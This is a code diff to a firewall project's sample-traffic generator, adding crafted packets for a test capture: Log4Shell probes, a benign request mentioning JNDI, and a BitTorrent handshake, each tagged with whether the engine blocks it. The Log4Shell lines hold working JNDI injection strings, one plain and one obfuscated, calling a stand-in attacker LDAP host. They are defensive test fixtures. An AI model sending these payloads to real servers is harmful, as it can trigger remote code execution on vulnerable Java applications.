@@ -2,8 +2,10 @@
  * The bundled sample: a few minutes of a branch office's traffic, built with the project's packet
  * builder (`datapath/craft.ts`), that exercises what the engine does today — an inbound SMB attempt
  * from the internet, a port scan with impossible TCP flags, a stray ACK outside any connection, a SYN
- * flood, normal web/DNS/NTP traffic, ARP and IPv6 neighbour discovery (never blocked), a fragmented
- * datagram, a GRE-tunnelled connection and a truncated packet.
+ * flood, Log4Shell probes of the office web server (blocked by the built-in virtual patches) next to a
+ * harmless request that mentions JNDI, a BitTorrent client (blocked by app control), normal
+ * web/DNS/NTP traffic, ARP and IPv6 neighbour discovery (never blocked), a fragmented datagram, a
+ * GRE-tunnelled connection and a truncated packet.
  *
  * `npm run sample` regenerates `branch-office.pcap` next to this file; the quick start inspects it with
  * `branch-office.yaml`. The expectations in `branch-office.test.ts` say what each part must produce.
@@ -30,6 +32,15 @@ const PRINTER = "198.18.0.20";
 const WEB = "198.19.80.80"; // "the internet" (benchmark range, never routed)
 const ATTACKER = "198.19.66.6";
 const DNS = "198.19.53.53";
+const WEB_SERVER = "198.18.0.30"; // the office's own web application
+const PEER = "198.19.44.44"; // a BitTorrent peer
+
+/** Latin-1 bytes of a string. */
+function ascii(s: string): Uint8Array {
+  const b = new Uint8Array(s.length);
+  for (let i = 0; i < s.length; i++) b[i] = s.charCodeAt(i) & 0xff;
+  return b;
+}
 const MAC_PC = "02:00:00:00:00:10";
 const MAC_GW = "02:00:00:00:00:01";
 
@@ -73,6 +84,45 @@ export function branchOfficeFrames(): SampleFrame[] {
   // the two SMB SYNs above count too, so 18 of these pass the stateful check (and meet the rules).
   for (let k = 0; k < 30; k++) {
     add(eth(tcpPacket({ src: ATTACKER, dst: PRINTER, sport: 42000 + k, dport: 9100, flags: "S", seq: k }), true), k < 18 ? "SYN to printer" : "SYN flood (blocked)", 100);
+  }
+
+  // The office web server (an old Java app) is probed for Log4Shell from the internet: the TCP handshake
+  // passes, the request carrying the JNDI lookup is blocked by the virtual patch (built-in packs), once
+  // plain and once obfuscated with nested lookups.
+  const jndi = [
+    "GET /login HTTP/1.1\r\nHost: 198.18.0.30:8080\r\nUser-Agent: ${jndi:ldap://198.19.66.6:1389/Exploit}\r\nAccept: */*\r\n\r\n",
+    "GET /?q=1 HTTP/1.1\r\nHost: 198.18.0.30:8080\r\nX-Api-Version: ${${lower:j}${::-n}di:${lower:l}dap://198.19.66.6/a}\r\n\r\n",
+  ];
+  jndi.forEach((req, k) => {
+    const c = { src: ATTACKER, dst: WEB_SERVER, sport: 43000 + k, dport: 8080 };
+    const sv = { src: WEB_SERVER, dst: ATTACKER, sport: 8080, dport: 43000 + k };
+    add(eth(tcpPacket({ ...c, flags: "S", seq: 7000 }), true), "Log4Shell probe SYN", 2_000_000);
+    add(eth(tcpPacket({ ...sv, flags: "SA", seq: 3000, ack: 7001 }), false), "Log4Shell probe SYN/ACK");
+    add(eth(tcpPacket({ ...c, flags: "A", seq: 7001, ack: 3001 }), true), "Log4Shell probe ACK");
+    add(eth(tcpPacket({ ...c, flags: "PA", seq: 7001, ack: 3001, payload: ascii(req) }), true), `Log4Shell request ${k + 1} (virtual patch, blocked)`);
+  });
+  // A colleague's request that merely mentions JNDI in a harmless place is let through.
+  {
+    const c = { src: PC, dst: WEB_SERVER, sport: 50100, dport: 8080 };
+    const sv = { src: WEB_SERVER, dst: PC, sport: 8080, dport: 50100 };
+    add(eth(tcpPacket({ ...c, flags: "S", seq: 100 }), false), "wiki SYN");
+    add(eth(tcpPacket({ ...sv, flags: "SA", seq: 900, ack: 101 }), true), "wiki SYN/ACK");
+    add(eth(tcpPacket({ ...c, flags: "A", seq: 101, ack: 901 }), false), "wiki ACK");
+    const wiki = "GET /wiki/How_JNDI_lookups_work?see=$HOME HTTP/1.1\r\nHost: 198.18.0.30:8080\r\nUser-Agent: Mozilla/5.0\r\n\r\n";
+    add(eth(tcpPacket({ ...c, flags: "PA", seq: 101, ack: 901, payload: ascii(wiki) }), false), "wiki page about JNDI (allowed)");
+  }
+  // A PC starts BitTorrent: identified from its handshake, blocked by the policy's app control (p2p).
+  {
+    const c = { src: PC, dst: PEER, sport: 50200, dport: 51413 };
+    const sv = { src: PEER, dst: PC, sport: 51413, dport: 50200 };
+    add(eth(tcpPacket({ ...c, flags: "S", seq: 100 }), false), "BitTorrent SYN", 200_000);
+    add(eth(tcpPacket({ ...sv, flags: "SA", seq: 500, ack: 101 }), true), "BitTorrent SYN/ACK");
+    add(eth(tcpPacket({ ...c, flags: "A", seq: 101, ack: 501 }), false), "BitTorrent ACK");
+    const hs = new Uint8Array(68);
+    hs[0] = 19;
+    hs.set(ascii("BitTorrent protocol"), 1);
+    add(eth(tcpPacket({ ...c, flags: "PA", seq: 101, ack: 501, payload: hs }), false), "BitTorrent handshake (app control, blocked)");
+    add(eth(tcpPacket({ ...sv, flags: "PA", seq: 501, ack: 169, payload: hs }), true), "BitTorrent handshake reply (app control, blocked)");
   }
 
   // NTP out in two fragments (reassembled, then allowed).
